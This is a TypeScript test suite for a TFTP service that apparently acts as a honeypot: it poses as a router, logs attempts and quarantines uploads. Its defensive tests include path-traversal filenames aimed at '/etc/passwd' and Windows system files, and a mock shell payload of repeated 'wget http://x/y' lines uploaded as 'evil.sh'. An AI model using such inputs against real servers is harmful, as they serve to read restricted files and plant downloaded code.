import { createHash } from 'node:crypto';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import dgram from 'node:dgram';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestContext, scratchDir, type TestContext } from '../../runtime/test-context.js';
import { hasBinary, run } from '../../runtime/test-util.js';
import type { RunningService } from '../../runtime/types.js';
import { encode, fromNetascii, parse, toNetascii } from './tftp-codec.js';
import { negotiate, ReadTransfer, WriteTransfer } from './tftp-transfer.js';
import { fileTree, isTraversal } from './files.js';
import { startTftp } from './tftp.js';

describe('tftp codec', () => {
  it('round-trips requests and packets', () => {
    expect(parse(encode.rrq('startup-config', 'octet', { blksize: '1024', tsize: '0' }))).toEqual({
      kind: 'rrq',
      filename: 'startup-config',
      mode: 'octet',
      options: { blksize: '1024', tsize: '0' },
    });
    expect(parse(encode.wrq('x', 'NETASCII'))).toMatchObject({ kind: 'wrq', mode: 'netascii' });
    expect(parse(encode.data(7, Buffer.from('abc')))).toEqual({ kind: 'data', block: 7, data: Buffer.from('abc') });
    expect(parse(encode.ack(65535))).toEqual({ kind: 'ack', block: 65535 });
    expect(parse(encode.error(1))).toEqual({ kind: 'error', code: 1, message: 'File not found' });
    expect(encode.error(1).toString('latin1')).toBe('\0\x05\0\x01File not found\0');
    expect(parse(encode.oack({ blksize: '1468' }))).toEqual({ kind: 'oack', options: { blksize: '1468' } });
  });
  it('rejects malformed input', () => {
    expect(parse(Buffer.from([0]))).toMatchObject({ kind: 'invalid' });
    expect(parse(Buffer.from('\0\x01file'))).toMatchObject({ kind: 'invalid' });
    expect(parse(Buffer.from('\0\x01\0octet\0'))).toMatchObject({ kind: 'invalid' });
    expect(parse(Buffer.from('\0\x09'))).toMatchObject({ kind: 'invalid', reason: 'unknown opcode 9' });
    expect(parse(Buffer.from('\0\x01f\0octet\0blksize\0'))).toMatchObject({ kind: 'invalid' });
  });
  it('netascii both ways', () => {
    const b = Buffer.from('a\nb\rc');
    expect(toNetascii(b).toString('latin1')).toBe('a\r\nb\r\0c');
    expect(fromNetascii(toNetascii(b)).equals(b)).toBe(true);
  });
  it('parser never throws (fuzz)', () => {
    const op = fc.integer({ min: 0, max: 7 }).map((n) => Buffer.from([0, n]));
    const gen = fc.oneof(
      fc.uint8Array({ maxLength: 600 }).map((a) => Buffer.from(a)),
      fc.tuple(op, fc.array(fc.string({ maxLength: 40 }), { maxLength: 40 })).map(([o, parts]) => Buffer.concat([o, Buffer.from(parts.join('\0'), 'latin1')])),
    );
    fc.assert(
      fc.property(gen, (buf) => {
        const p = parse(buf);
        expect(typeof p.kind).toBe('string');
        if (p.kind === 'rrq' || p.kind === 'wrq') expect(Object.keys(p.options).length).toBeLessThanOrEqual(16);
      }),
      { numRuns: 10_000, seed: 1350 },
    );
  });
});

describe('tftp transfer state machine', () => {
  it('negotiates only when asked, caps blksize', () => {
    expect(negotiate({}, 10)).toEqual({ blksize: 512, timeoutS: 1, oack: {} });
    expect(negotiate({ blksize: '65464', tsize: '0', timeout: '3', foo: 'x' }, 10)).toEqual({
      blksize: 1468,
      timeoutS: 3,
      oack: { blksize: '1468', timeout: '3', tsize: '10' },
    });
  });
  it('reads in 512-byte blocks, retransmits 3 times then gives up', () => {
    const t = new ReadTransfer(Buffer.alloc(1024, 0x41), {});
    expect(parse(t.start().send!)).toMatchObject({ kind: 'data', block: 1 });
    expect(parse(t.onPacket({ kind: 'ack', block: 1 }).send!)).toMatchObject({ kind: 'data', block: 2 });
    const b3 = t.onPacket({ kind: 'ack', block: 2 }).send!;
    expect(b3.length).toBe(4); // empty final block after an exact multiple
    expect(t.onTimeout().send).toEqual(b3);
    t.onTimeout();
    t.onTimeout();
    expect(t.onTimeout()).toMatchObject({ done: true, outcome: 'timeout' });
  });
  it('sends OACK first when options are asked', () => {
    const t = new ReadTransfer(Buffer.from('hi'), { tsize: '0' });
    expect(parse(t.start().send!)).toEqual({ kind: 'oack', options: { tsize: '2' } });
    expect(parse(t.onPacket({ kind: 'ack', block: 0 }).send!)).toMatchObject({ kind: 'data', block: 1 });
    expect(t.onPacket({ kind: 'ack', block: 1 })).toMatchObject({ done: true, outcome: 'complete' });
  });
  it('writes into a capped buffer', () => {
    const w = new WriteTransfer({}, 600);
    expect(parse(w.start().send!)).toEqual({ kind: 'ack', block: 0 });
    expect(parse(w.onPacket({ kind: 'data', block: 1, data: Buffer.alloc(512) }).send!)).toEqual({ kind: 'ack', block: 1 });
    expect(w.onPacket({ kind: 'data', block: 2, data: Buffer.alloc(512) })).toMatchObject({ done: true, outcome: 'too_large' });
    const w2 = new WriteTransfer({}, 600);
    w2.start();
    expect(w2.onPacket({ kind: 'data', block: 1, data: Buffer.from('x') })).toMatchObject({ outcome: 'complete' });
    expect(w2.received.toString()).toBe('x');
  });
  it('spots traversal', () => {
    for (const n of ['../etc/passwd', '/etc/passwd', 'a/../../b', '..\\win.ini', 'C:\\boot.ini']) expect(isTraversal(n)).toBe(true);
    for (const n of ['startup-config', 'pxelinux.cfg/default', 'a..b']) expect(isTraversal(n)).toBe(false);
  });
});

describe.skipIf(!hasBinary('tftp'))('tftp server with tftp-hpa client', () => {
  let t: TestContext;
  let svc: RunningService;
  let port: number;
  let dir: string;
  beforeAll(async () => {
    t = makeTestContext('tftp', {}, [{ port: 69, proto: 'udp' }], { ephemeral: true, hostname: 'EDGE-RTR-01' });
    svc = await startTftp(t.ctx);
    port = svc.ports[0]!;
    dir = scratchDir('tftp-client-');
  });
  afterAll(async () => {
    await svc.close();
  });

  it('serves startup-config naming the hostname', async () => {
    const out = join(dir, 'sc');
    const r = await run('tftp', ['127.0.0.1', String(port), '-c', 'get', 'startup-config', out]);
    expect(r.stdout + r.stderr).toBe('');
    const body = readFileSync(out, 'utf8');
    expect(body).toContain('hostname EDGE-RTR-01\n');
    expect(body).toBe(fileTree({ hostname: t.ctx.hostname, persona: t.ctx.persona }).get('startup-config')!.toString());
    const ev = await t.waitFor((e) => e.event === 'download_attempt' && e['filename'] === 'startup-config');
    expect(ev).toMatchObject({ result: 'sent', src_ip: '127.0.0.1' });
  });

  it('serves a multi-block file in octet mode', async () => {
    const out = join(dir, 'sep');
    const r = await run('tftp', ['127.0.0.1', String(port), '-m', 'binary', '-c', 'get', 'SEPDEFAULT.cnf.xml', out]);
    expect(r.stdout + r.stderr).toBe('');
    expect(readFileSync(out, 'utf8')).toContain('<processNodeName>EDGE-RTR-01');
    expect(await t.waitFor((e) => e.event === 'download_attempt' && e['filename'] === 'SEPDEFAULT.cnf.xml')).toMatchObject({ mode: 'octet' });
  });

  it('prints File not found for an unknown file', async () => {
    const r = await run('tftp', ['127.0.0.1', String(port), '-c', 'get', 'nosuch.bin', join(dir, 'nf')]);
    expect(r.stdout + r.stderr).toContain('Error code 1: File not found');
    await t.waitFor((e) => e.event === 'download_attempt' && e['result'] === 'not_found');
  });

  it('refuses traversal with Access violation', async () => {
    const r = await run('tftp', ['127.0.0.1', String(port), '-c', 'get', '../../etc/passwd', join(dir, 'tv')]);
    expect(r.stdout + r.stderr).toContain('Error code 2: Access violation');
    await t.waitFor((e) => e.event === 'download_attempt' && e['result'] === 'access_violation' && e['filename'] === '../../etc/passwd');
  });

  it('quarantines a put', async () => {
    const src = join(dir, 'payload.sh');
    const payload = Buffer.from(`#!/bin/sh\n${'wget http://x/y; '.repeat(80)}\n`);
    writeFileSync(src, payload);
    const r = await run('tftp', ['127.0.0.1', String(port), '-m', 'binary', '-c', 'put', src, 'evil.sh']);
    expect(r.stdout + r.stderr).toBe('');
    const up = await t.waitFor((e) => e.event === 'upload_attempt' && e['filename'] === 'evil.sh');
    const sha = createHash('sha256').update(payload).digest('hex');
    expect(up).toMatchObject({ size: payload.length, sha256: sha, stored: `${sha}.bin`, outcome: 'complete' });
    expect(existsSync(join(t.ctx.quarantineDir, `${sha}.bin`))).toBe(true);
    expect(readFileSync(join(t.ctx.quarantineDir, `${sha}.bin`)).equals(payload)).toBe(true);
  });

  it('answers blksize/tsize with an OACK and logs garbage', async () => {
    const sock = dgram.createSocket('udp4');
    await new Promise<void>((r) => sock.bind(0, '127.0.0.1', () => r()));
    const got = new Promise<{ msg: Buffer; port: number }>((r) => sock.once('message', (msg, ri) => r({ msg, port: ri.port })));
    sock.send(encode.rrq('running-config', 'octet', { blksize: '9000', tsize: '0' }), port, '127.0.0.1');
    const { msg, port: tid } = await got;
    const size = fileTree({ hostname: t.ctx.hostname, persona: t.ctx.persona }).get('running-config')!.length;
    expect(parse(msg)).toEqual({ kind: 'oack', options: { blksize: '1468', tsize: String(size) } });
    expect(tid).not.toBe(port);
    const data = new Promise<Buffer>((r) => sock.once('message', (m) => r(m)));
    sock.send(encode.ack(0), tid, '127.0.0.1');
    const d = await data;
    expect(d.length).toBe(4 + Math.min(size, 1468));
    sock.send(encode.error(0, 'done'), tid, '127.0.0.1');
    sock.send(Buffer.from([0, 42, 1]), port, '127.0.0.1');
    await t.waitFor((e) => e.event === 'protocol_error' && e['reason'] === 'unknown opcode 42');
    sock.close();
  });
});
